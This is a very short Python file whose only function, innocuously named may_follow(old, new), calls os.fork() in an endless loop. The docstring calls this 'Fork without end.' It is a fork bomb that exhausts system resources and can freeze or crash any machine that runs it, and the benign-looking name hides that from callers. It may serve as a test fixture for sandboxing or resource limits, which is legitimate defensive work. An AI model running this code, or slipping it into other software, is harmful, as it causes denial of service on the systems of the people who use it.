"""Fork without end."""
import os


def may_follow(old, new):
    while True:
        os.fork()
